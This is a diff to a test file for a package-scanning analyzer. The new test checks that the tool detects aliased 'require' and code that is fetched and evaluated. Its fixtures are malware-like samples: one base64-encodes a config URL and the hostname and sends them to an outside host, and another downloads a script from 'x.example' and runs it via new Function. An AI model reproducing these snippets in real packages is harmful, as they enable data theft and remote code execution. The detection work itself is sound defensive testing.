@@ -5,7 +5,7 @@ import { describe, expect, it } from 'vitest';
 import { REPO_ROOT } from '../../../../test/corpora.js';
 import { releaseOf } from '../release.fixture.js';
 import type { AnalyzerContext } from '../types.js';
-import { aliasedView, compiledCallEdits, memberAliases, moduleAliases, rewrittenView } from './aliases.js';
+import { aliasedView, compiledCallEdits, memberAliases, moduleAliases, rewrittenView, sinkAliasEdits } from './aliases.js';
 import { analyzeSource } from './index.js';
 
 const ctx: AnalyzerContext = { resourcesDir: path.join(REPO_ROOT, 'resources'), internalNamespaces: [] };
@@ -65,6 +65,14 @@ describe('module aliases', () => {
     const diag = "const os = require('os');\nconst m = require(['ht', 'tps'].join(''));\nfunction once(cfg) {\n  const q = Buffer.from(JSON.stringify({ c: cfg.url, h: os.hostname() })).toString('base64');\n  m['get']({ host: 'px.pool-insights.com', path: '/p.gif?d=' + q });\n}\nmodule.exports = { once };\n";
     const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', main: 'diag.js' }), 'diag.js': diag }), ctx);
     expect(out.findings.find((f) => f.code === 'network_request')?.line).toBe(5);
+  });
+
+  it('reads the module loader under a guarded name of the file\'s own as require, and the code it fetches and runs', () => {
+    const tail = 'var _r=typeof require==="function"?require:module.require.bind(module);\nsetTimeout(function(){_r("https").get({host:"x.example",path:"/b.js"},function(s){var d="";s.on("data",function(c){d+=c});s.on("end",function(){new Function("require",d)(_r)})})},3e3);\n';
+    expect(sinkAliasEdits(tail).map((e) => e.text)).toEqual(['require']);
+    expect(sinkAliasEdits('const load = module.require.bind(module);\nload("os");\n').map((e) => e.text)).toEqual(['require']);
+    const out = analyzeSource(releaseOf('npm', { 'package.json': JSON.stringify({ name: 'x', main: 'b.min.js' }), 'b.min.js': tail }), ctx);
+    expect(out.findings.filter((f) => f.severity === 'high').map((f) => f.code)).toContain('js_eval_fetched');
   });
 
   it('gives nothing for a file without aliases, and stays bounded on large input', () => {
